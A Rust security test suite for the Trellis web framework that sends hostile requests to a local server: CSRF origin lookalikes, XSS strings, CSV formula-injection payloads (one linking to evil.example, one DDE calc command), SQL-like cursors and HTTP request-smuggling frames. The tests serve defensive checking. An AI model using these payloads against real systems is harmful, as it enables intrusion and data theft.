//! Attacks on what landed last: `csrf_trusted_origins`, the debug page's headers and cookies,
//! CSV's `fields:`, keyset pages' `?after=`, and corners of the writing path that
//! `attack_forms` did not try. Each is sent over real HTTP to a real `trellis serve`, as an
//! attacker would send it; each test asserts what comes back and what the SQLite file holds.
//! The ones that found a hole failed before its fix (their comments say which).

use std::path::Path;

use rusqlite::Connection;

use crate::common::{check_prints, write_files, Resp, Server, SiteDir, CSRF_SECRET};

const FORM: &str = "application/x-www-form-urlencoded";

const SITE: &str = r#"site:
  database: db.sqlite3
  proxy: { scheme_header: { name: X-Forwarded-Proto } }
  security:
    csrf_trusted_origins: ["https://admin.example.com", "https://*.example.org"]
models:
  Post:
    fields:
      title: { type: string }
      slug: { type: slug, unique: true }
      rank: { type: integer, null: true }
      labels: { type: many_to_many, to: Tag }
  Tag:
    fields:
      name: { type: string, primary_key: true }
routes:
  - { path: posts/, name: post-list, view: list, model: Post, template: list.hbs }
  - { path: feed/, view: list, model: Post, paginate_by: 2, keyset: true, ordering: [rank], template: list.hbs }
  - { path: odd/, view: list, model: Post, paginate_by: 2, keyset: true, where: { rank__gte: 2 }, template: list.hbs }
  - { path: tags/, view: list, model: Tag, paginate_by: 2, keyset: true, template: tags.hbs }
  - { path: posts.csv, view: list, model: Post, format: csv, fields: [title, slug] }
  - { path: new/, view: create, model: Post, fields: [title, slug, rank], success: post-list }
  - { path: labelled/, view: create, model: Post, fields: [title, slug, labels], success: post-list }
  - { path: posts/<slug:slug>/delete/, view: delete, model: Post, lookup: slug, success: post-list }
  - { path: boom/, view: template, template: boom.hbs }
"#;

fn site() -> SiteDir {
    write_files(&[
        ("site.yaml", SITE),
        (
            "templates/list.hbs",
            "{{#each objects}}[{{title}}]{{/each}} next={{page.next_url}}",
        ),
        ("templates/tags.hbs", "{{#each objects}}[{{name}}]{{/each}}"),
        ("templates/boom.hbs", "{{#each (nope)}}{{/each}}"),
    ])
}

fn db(dir: &Path) -> Connection {
    Connection::open(dir.join("db.sqlite3")).unwrap()
}

fn titles(dir: &Path) -> Vec<String> {
    let conn = db(dir);
    let mut stmt = conn.prepare("SELECT title FROM post ORDER BY id").unwrap();
    let rows = stmt.query_map([], |r| r.get(0)).unwrap();
    rows.map(Result::unwrap).collect()
}

/// A form POST to `/new/` with a CSRF cookie and token that pass, and `headers` besides.
fn create(server: &Server, headers: &[(&str, &str)], fields: &str) -> Resp {
    let cookie = format!("csrftoken={CSRF_SECRET}");
    let mut all = vec![("Cookie", cookie.as_str()), ("Content-Type", FORM)];
    all.extend_from_slice(headers);
    let body = format!("csrfmiddlewaretoken={CSRF_SECRET}&{fields}");
    server.request_with_body("POST", "/new/", &all, &body)
}

/// Each case's value sent in `header` (besides `extra`) on a form POST that otherwise passes,
/// with the status it got; a POST let through writes a row titled `{tag}{i}`.
fn statuses<'a>(
    server: &Server,
    header: &str,
    extra: &[(&str, &str)],
    cases: &[(&'a str, u16)],
    tag: &str,
) -> Vec<(&'a str, u16)> {
    let mut got = Vec::new();
    for (i, (value, _)) in cases.iter().enumerate() {
        let mut headers = extra.to_vec();
        headers.push((header, value));
        let fields = format!("title={tag}{i}&slug={tag}{i}");
        got.push((*value, create(server, &headers, &fields).status));
    }
    got
}

/// Origins that look like a trusted one but are not it, over plain HTTP: only the site's own
/// origin and the trusted ones, as a browser writes them, pass; nothing else is written.
#[test]
fn trusted_origin_lookalikes_are_refused() {
    let dir = site();
    let server = Server::start_site(&dir);
    let own = format!("http://{}", server.addr);
    let cases: &[(&str, u16)] = &[
        (&own, 303),
        ("https://admin.example.com", 303),
        ("https://shop.example.org", 303),
        ("https://example.org", 303),
        // A port, a trailing dot, a path, a default port written out: not what was trusted.
        ("https://admin.example.com:8443", 403),
        ("https://admin.example.com.", 403),
        ("https://admin.example.com/", 403),
        ("https://admin.example.com:443", 403),
        ("https://shop.example.org:8443", 403),
        ("https://shop.example.org.", 403),
        // Another scheme, a lookalike domain, userinfo naming the trusted one.
        ("http://admin.example.com", 403),
        ("http://shop.example.org", 403),
        ("https://evilexample.org", 403),
        ("https://example.org.evil.com", 403),
        ("https://admin.example.com@evil.com", 403),
        ("https://shop.example.org@evil.com", 403),
        ("https://xn--dmin-loa.example.com", 403),
        ("null", 403),
        ("", 403),
    ];
    assert_eq!(statuses(&server, "Origin", &[], cases, "o"), cases);
    assert_eq!(titles(server.site_path()), ["o0", "o1", "o2", "o3"]);
}

/// Over HTTPS (a trusted proxy says so) without `Origin`, the `Referer` decides: an `https`
/// URL of this host or of a trusted host; lookalikes are refused, and nothing is written.
#[test]
fn trusted_referer_lookalikes_are_refused_over_https() {
    let dir = site();
    let server = Server::start_site(&dir);
    let own = format!("https://{}/new/", server.addr);
    let cases: &[(&str, u16)] = &[
        (&own, 303),
        ("https://admin.example.com/page", 303),
        // The default port is the same origin; the host's case does not matter.
        ("https://admin.example.com:443/page", 303),
        ("https://ADMIN.example.com/page", 303),
        ("https://deep.shop.example.org/", 303),
        // Userinfo naming a foreign host: the host is the trusted one, as the browser reads it.
        ("https://evil.com@admin.example.com/", 303),
        // Over plain HTTP, another port, a trailing dot, a lookalike, userinfo hiding the host.
        ("http://admin.example.com/page", 403),
        ("https://admin.example.com:8443/", 403),
        ("https://admin.example.com./", 403),
        ("https://evilexample.org/", 403),
        ("https://admin.example.com@evil.com/", 403),
        ("https://admin.example.com%2F@evil.com/", 403),
        ("null", 403),
        ("not a url", 403),
    ];
    let https = [("X-Forwarded-Proto", "https")];
    assert_eq!(statuses(&server, "Referer", &https, cases, "r"), cases);
    assert_eq!(titles(server.site_path()).len(), 6);
}

/// The debug page masks every cookie and header that may hold a secret, however the request
/// repeats or spells them, and escapes every value it shows.
#[test]
fn the_debug_page_masks_repeated_and_oddly_named_secrets() {
    let dir = site();
    let server = Server::start_site(&dir);
    let r = server.request(
        "GET",
        "/boom/",
        &[
            (
                "Cookie",
                "sessionid=SESSION1; csrftoken=CSRF1; My_Api_Thing=API1; theme=<script>t</script>",
            ),
            ("Cookie", "sessionid=SESSION2; Auth=AUTH1"),
            ("X-Api-Key", "KEY1"),
            ("x-api-key", "KEY2"),
            ("Authorization", "Bearer BEARER1"),
            ("X-Upstream-Password", "PASS1"),
            // Django's META names them HTTP_COOKIE2 and HTTP_X_HTTP_COOKIE: masked there.
            ("Cookie2", "COOKIE2VALUE"),
            ("X-Http-Cookie", "XHTTPCOOKIE"),
            ("X-Note", "<img src=x onerror=alert(1)>"),
        ],
    );
    assert_eq!(r.status, 500);
    assert!(r.body.contains("trellis-debug"), "{}", r.body);
    for secret in [
        "SESSION1",
        "SESSION2",
        "CSRF1",
        "API1",
        "AUTH1",
        "KEY1",
        "KEY2",
        "BEARER1",
        "PASS1",
        "COOKIE2VALUE",
        "XHTTPCOOKIE",
    ] {
        assert!(!r.body.contains(secret), "{secret} shown:\n{}", r.body);
    }
    assert!(!r.body.contains("<script>t"), "{}", r.body);
    assert!(!r.body.contains("<img src=x"), "{}", r.body);
    assert!(r.body.contains("&lt;img src=x onerror=alert(1)&gt;"));
    // Two headers of one name are two rows, both masked.
    assert_eq!(r.body.matches("<th>x-api-key</th><td>****").count(), 2);
    // Behind a proxy there is no debug page at all.
    let proxied = server.request("GET", "/boom/", &[("X-Forwarded-For", "203.0.113.9")]);
    assert_eq!(proxied.status, 500);
    assert!(!proxied.body.contains("trellis-debug"));
}

/// CSV injection: a cell starting with `=`, `+`, `-` or `@` is written as stored (as Django's
/// documented `csv.writer` export and Datasette's do), so an export loads back unchanged; what
/// quoting guarantees is that no value leaves its cell — a quote, a comma or a newline cannot
/// start a new cell or row, read by a real CSV parser.
#[test]
fn csv_cells_stay_in_their_cell_and_are_written_as_stored() {
    let dir = site();
    let server = Server::start_site(&dir);
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "a\",\"=1+1",
        "line\r\n=2+2,\"x\"",
    ];
    for (i, title) in hostile.iter().enumerate() {
        let fields = form_urlencoded::Serializer::new(String::new())
            .append_pair("title", title)
            .append_pair("slug", &format!("c{i}"))
            .finish();
        assert_eq!(create(&server, &[], &fields).status, 303, "{title}");
    }
    let r = server.get("/posts.csv");
    assert_eq!(r.status, 200);
    let mut reader = csv::Reader::from_reader(r.body.as_bytes());
    let header = reader.headers().unwrap().clone();
    assert_eq!(header.iter().collect::<Vec<_>>(), ["title", "slug"]);
    let rows: Vec<Vec<String>> = reader
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
        .collect();
    let want: Vec<Vec<String>> = hostile
        .iter()
        .enumerate()
        .map(|(i, t)| vec![t.to_string(), format!("c{i}")])
        .collect();
    assert_eq!(rows, want);
}

/// `?after=` with hostile cursors: a key no row has, one past `i64`, SQL, another model's
/// key, a row the route's `where:` hides; each is the site's 404, never a 500, and a real
/// cursor still works.
#[test]
fn hostile_keyset_cursors_are_404() {
    let dir = site();
    let server = Server::start_site(&dir);
    for i in 1..=5 {
        let fields = format!("title=p{i}&slug=p{i}&rank={i}");
        assert_eq!(create(&server, &[], &fields).status, 303);
    }
    for name in ["alpha", "beta", "gamma"] {
        db(server.site_path())
            .execute("INSERT INTO tag (name) VALUES (?1)", [name])
            .unwrap();
    }
    let ok = server.get("/feed/?after=2");
    assert_eq!(ok.status, 200);
    assert!(
        ok.body.starts_with("[p3][p4] next=/feed/?after&#x3D;4"),
        "{}",
        ok.body
    );
    for after in [
        "99999",
        "99999999999999999999999",
        "9223372036854775808",
        "-9223372036854775809",
        "1%27%20OR%201=1--",
        "1%20OR%201=1",
        "1e0",
        "0x1",
        "%EF%BC%91",
        "1%00",
        "alpha",
        "",
    ] {
        let r = server.get(&format!("/feed/?after={after}"));
        assert_eq!(r.status, 404, "after={after}: {}", r.body);
    }
    // Row 1 has rank 1: the route's `where:` hides it, so it is no cursor there.
    assert_eq!(server.get("/odd/?after=1").status, 404);
    assert_eq!(server.get("/odd/?after=2").status, 200);
    // A text key: SQL-looking or absent values are 404; a real one pages on.
    for after in ["%27%20OR%20%271%27=%271", "zzz", "1", "alph"] {
        assert_eq!(server.get(&format!("/tags/?after={after}")).status, 404);
    }
    assert_eq!(server.get("/tags/?after=alpha").body, "[beta][gamma]");
    assert!(!server.log().contains("ERROR"), "{}", server.log());
}

/// The writing path: a field sent twice takes its last value (Django's `QueryDict`); `name[]`
/// is another field, ignored; a slug of lookalike letters (Cyrillic `а`, full-width `ａ`, a
/// zero-width space) is refused; methods other than GET, HEAD, POST and OPTIONS are 405, and
/// OPTIONS and HEAD write nothing, even on a delete route.
#[test]
fn the_writing_path_takes_one_value_and_only_its_methods() {
    let dir = site();
    let server = Server::start_site(&dir);
    let r = create(
        &server,
        &[],
        "title=first&title=second&slug=a&slug=b&rank=1&rank=2",
    );
    assert_eq!(r.status, 303);
    let row: (String, String, i64) = db(server.site_path())
        .query_row("SELECT title, slug, rank FROM post", [], |r| {
            Ok((r.get(0)?, r.get(1)?, r.get(2)?))
        })
        .unwrap();
    assert_eq!(row, ("second".into(), "b".into(), 2));
    let r = create(&server, &[], "title[]=x&title=arr&slug[]=y&slug=arr");
    assert_eq!(r.status, 303);
    for slug in ["%D0%B0dmin", "%EF%BD%81dmin", "ad%E2%80%8Bmin"] {
        let r = create(&server, &[], &format!("title=lookalike&slug={slug}"));
        assert_eq!(r.status, 400, "{slug}");
    }
    let cookie = format!("csrftoken={CSRF_SECRET}");
    let headers = [("Cookie", cookie.as_str()), ("Content-Type", FORM)];
    let body = format!("csrfmiddlewaretoken={CSRF_SECRET}&title=m&slug=m");
    for method in ["PUT", "PATCH", "DELETE", "TRACE", "PROPFIND", "FOO"] {
        for target in ["/new/", "/posts/b/delete/"] {
            let r = server.request_with_body(method, target, &headers, &body);
            assert_eq!(r.status, 405, "{method} {target}");
        }
    }
    let options = server.request_with_body("OPTIONS", "/posts/b/delete/", &headers, &body);
    assert_eq!(options.status, 200);
    assert_eq!(options.header("allow"), Some("GET, HEAD, POST, OPTIONS"));
    assert_eq!(server.head("/posts/b/delete/").status, 200);
    assert_eq!(titles(server.site_path()), ["second", "arr"]);
}

/// A multipart body with an overlong boundary is refused before it is read (its head is over
/// `header_bytes`), and a multipart form, whose token Trellis never reads, is a 403.
#[test]
fn multipart_bodies_write_nothing() {
    let dir = site();
    let server = Server::start_site(&dir);
    let cookie = format!("csrftoken={CSRF_SECRET}");
    let long = format!("multipart/form-data; boundary={}", "b".repeat(40_000));
    let r = server.request_with_body(
        "POST",
        "/new/",
        &[("Cookie", &cookie), ("Content-Type", &long)],
        "--b--",
    );
    assert_eq!(r.status, 431);
    let body = format!(
        "--xx\r\nContent-Disposition: form-data; name=\"csrfmiddlewaretoken\"\r\n\r\n{CSRF_SECRET}\r\n\
         --xx\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nmp\r\n\
         --xx\r\nContent-Disposition: form-data; name=\"slug\"\r\n\r\nmp\r\n--xx--\r\n"
    );
    let r = server.request_with_body(
        "POST",
        "/new/",
        &[
            ("Cookie", &cookie),
            ("Content-Type", "multipart/form-data; boundary=xx"),
        ],
        &body,
    );
    assert_eq!(r.status, 403);
    assert!(titles(server.site_path()).is_empty());
}

/// An `Origin` that is not text (a byte past ASCII), or sent twice, is a foreign origin, as
/// Django reads it: the 403 of a failed Origin check, nothing written. Before, such a header
/// was taken as no `Origin` at all, so over plain HTTP the token alone let the write through,
/// and of two `Origin` headers only the first was checked.
#[test]
fn an_origin_that_is_not_text_or_is_sent_twice_is_refused() {
    let dir = site();
    let server = Server::start_site(&dir);
    let body = format!("csrfmiddlewaretoken={CSRF_SECRET}&title=t&slug=t");
    let own = format!("http://{}", server.addr);
    let sends: [Vec<u8>; 2] = [
        b"Origin: http://\xffevil.example\r\n".to_vec(),
        format!("Origin: {own}\r\nOrigin: http://evil.example\r\n").into_bytes(),
    ];
    for origin in sends {
        let mut raw = format!(
            "POST /new/ HTTP/1.1\r\nHost: {}\r\nConnection: close\r\nCookie: csrftoken={CSRF_SECRET}\r\n\
             Content-Type: {FORM}\r\nContent-Length: {}\r\n",
            server.addr,
            body.len()
        )
        .into_bytes();
        raw.extend_from_slice(&origin);
        raw.extend_from_slice(b"\r\n");
        raw.extend_from_slice(body.as_bytes());
        let r = server.raw(&raw);
        assert_eq!(r.status, 403, "{}", String::from_utf8_lossy(&origin));
        assert!(r.body.contains("Origin checking failed"), "{}", r.body);
    }
    // The refused origin is named on the 403 page, escaped.
    let r = create(
        &server,
        &[("Origin", "http://<script>alert(1)</script>")],
        "title=x&slug=x",
    );
    assert_eq!(r.status, 403);
    assert!(!r.body.contains("<script>alert"), "{}", r.body);
    assert!(titles(server.site_path()).is_empty());
}

/// A trusted origin written as no browser writes an `Origin` (the scheme's default port, a
/// host of non-ASCII letters, a port with a leading zero) could never match: every form posted
/// from it was a 403 while `check` said the site was fine. It does not load now, and the hint
/// says the origin as the browser sends it.
#[test]
fn a_trusted_origin_no_browser_sends_does_not_load() {
    for (origin, canonical) in [
        ("https://admin.example.com:443", "https://admin.example.com"),
        ("http://admin.example.com:80", "http://admin.example.com"),
        (
            "https://b\u{fc}cher.example",
            "https://xn--bcher-kva.example",
        ),
        (
            "https://*.b\u{fc}cher.example",
            "https://*.xn--bcher-kva.example",
        ),
        (
            "https://admin.example.com:08443",
            "https://admin.example.com:8443",
        ),
    ] {
        let yaml = format!("site:\n  security:\n    csrf_trusted_origins: [\"{origin}\"]\n");
        check_prints(
            &yaml,
            &[
                &format!("site.security.csrf_trusted_origins[0]: {origin:?} is not how a browser writes this origin: it sends {canonical:?}"),
                &format!("help: write \"{canonical}\""),
            ],
        );
    }
}

/// A NUL character in a posted value is refused, as Django's form fields refuse it
/// (`ProhibitNullCharactersValidator`: "Null characters are not allowed."): the form comes
/// back with the message and nothing is written. Before, `a%00b` was stored as it came, and
/// went on into pages, feeds and CSV exports, where other programs cut text at a NUL.
#[test]
fn a_nul_character_in_a_form_is_refused() {
    let dir = site();
    let server = Server::start_site(&dir);
    for fields in ["title=a%00b&slug=n1", "title=ok&slug=n2&rank=1%00"] {
        let r = create(&server, &[], fields);
        assert_eq!(r.status, 400, "{fields}: {}", r.body);
        assert!(
            r.body.contains("Null characters are not allowed."),
            "{}",
            r.body
        );
    }
    assert!(titles(server.site_path()).is_empty());
    // A value without one is saved as usual.
    assert_eq!(create(&server, &[], "title=a%01b&slug=n3").status, 303);
    assert_eq!(titles(server.site_path()), ["a\u{1}b"]);
}

/// A form's body with more fields than `site.limits.query_fields` is a 400, as Django's
/// `DATA_UPLOAD_MAX_NUMBER_FIELDS` refuses it (`TooManyFieldsSent`), and nothing is written.
/// Before, only the query string was counted: a body of 200 000 fields was read, scanned once
/// per form field, and saved.
#[test]
fn a_form_with_too_many_fields_is_refused() {
    let dir = site();
    let server = Server::start_site(&dir);
    let many = format!("title=many&slug=many{}", "&x=1".repeat(1000));
    let r = create(&server, &[], &many);
    assert_eq!(r.status, 400, "{}", r.body);
    // The log line is written after the answer: waited for, not read at once.
    server.wait_for_log("more than 1000 form fields (site.limits.query_fields)");
    assert!(titles(server.site_path()).is_empty());
    // At the limit (the token, two fields and 997 more), the form is saved.
    let enough = format!("title=enough&slug=enough{}", "&x=1".repeat(997));
    assert_eq!(create(&server, &[], &enough).status, 303);
    assert_eq!(titles(server.site_path()), ["enough"]);
}

/// A many_to_many value sent twice, or as ` 1`, is one pair; a key no row has is a 400.
#[test]
fn a_repeated_many_to_many_value_is_one_pair() {
    let dir = site();
    let server = Server::start_site(&dir);
    db(server.site_path())
        .execute("INSERT INTO tag (name) VALUES ('rust'), ('yaml')", [])
        .unwrap();
    let cookie = format!("csrftoken={CSRF_SECRET}");
    let headers = [("Cookie", cookie.as_str()), ("Content-Type", FORM)];
    let post = |fields: &str| {
        let body = format!("csrfmiddlewaretoken={CSRF_SECRET}&{fields}");
        server.request_with_body("POST", "/labelled/", &headers, &body)
    };
    assert_eq!(
        post("title=a&slug=a&labels=rust&labels=rust&labels=yaml").status,
        303
    );
    assert_eq!(post("title=b&slug=b&labels=nope").status, 400);
    let pairs: i64 = db(server.site_path())
        .query_row("SELECT count(*) FROM post_labels", [], |r| r.get(0))
        .unwrap();
    assert_eq!(pairs, 2);
    assert_eq!(titles(server.site_path()), ["a"]);
}

/// Request smuggling: a body framed by both `Content-Length` and `Transfer-Encoding`, two
/// `Content-Length`s, or an unknown transfer coding is a 400 from the HTTP layer; nothing is
/// written, and the request hidden after the body is never answered.
#[test]
fn ambiguous_body_framing_is_refused() {
    let dir = site();
    let server = Server::start_site(&dir);
    let body = format!("csrfmiddlewaretoken={CSRF_SECRET}&title=smuggled&slug=smuggled");
    let head = format!(
        "POST /new/ HTTP/1.1\r\nHost: {}\r\nCookie: csrftoken={CSRF_SECRET}\r\nContent-Type: {FORM}\r\n",
        server.addr
    );
    let chunked = format!("{:x}\r\n{body}\r\n0\r\n\r\n", body.len());
    let sends = [
        format!(
            "{head}Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n{chunked}GET /posts/ HTTP/1.1\r\nHost: {}\r\n\r\n",
            server.addr
        ),
        format!(
            "{head}Content-Length: {}\r\nContent-Length: 5\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
        format!("{head}Transfer-Encoding: xchunked\r\nConnection: close\r\n\r\n{body}"),
    ];
    for raw in sends {
        let r = server.raw(raw.as_bytes());
        assert_eq!(r.status, 400, "{raw}");
    }
    assert!(titles(server.site_path()).is_empty());
    assert!(!server.log().contains("GET /posts/"), "{}", server.log());
}

/// A NUL character is refused in a fixture and in a collection's file as a form refuses it
/// (the shared rule, `db::model::validate`), the file and its line named; nothing is loaded.
/// Before, `trellis load`, `site.fixtures` and a collection stored `a\0b` as it came.
#[test]
fn a_nul_character_in_a_fixture_or_a_collection_file_is_refused() {
    let fixture =
        "- model: Note\n  fields: { title: ok }\n- model: Note\n  fields: { title: \"a\\0b\" }\n";
    let site = write_files(&[
        (
            "site.yaml",
            "site: { database: site.sqlite3 }\nmodels:\n  Note:\n    fields:\n      title: { type: string }\n",
        ),
        ("notes.yaml", fixture),
    ]);
    let out =
        crate::common::trellis([Path::new("load"), &site.path, &site.path.join("notes.yaml")]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(err.contains("notes.yaml:4:"), "{err}");
    assert!(err.contains("Null characters are not allowed."), "{err}");
    let db = Connection::open(site.path.join("site.sqlite3")).unwrap();
    let n: i64 = db
        .query_row("SELECT count(*) FROM note", [], |r| r.get(0))
        .unwrap();
    assert_eq!(n, 0, "a refused fixture file loads no row");

    let collection = write_files(&[
        (
            "site.yaml",
            "site: { database: site.sqlite3 }\nmodels:\n  Post:\n    source: content/posts/\n    fields:\n      title: { type: string }\n      slug: { type: slug, unique: true }\n      body: { type: text, format: markdown }\n",
        ),
        ("content/posts/good.md", "---\ntitle: Fine\n---\nText.\n"),
        ("content/posts/front.md", "---\ntitle: \"a\\0b\"\n---\nText.\n"),
        ("content/posts/body.md", "---\ntitle: B\n---\nSome\0text.\n"),
    ]);
    let out = crate::common::trellis([Path::new("check"), &collection.path]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{err}");
    assert!(
        err.contains("posts/front.md:2:8: title: field `title`: Null characters are not allowed."),
        "{err}"
    );
    assert!(
        err.contains("posts/body.md: its Markdown holds a NUL character"),
        "{err}"
    );
    assert!(err.contains("2 errors found"), "{err}");
}
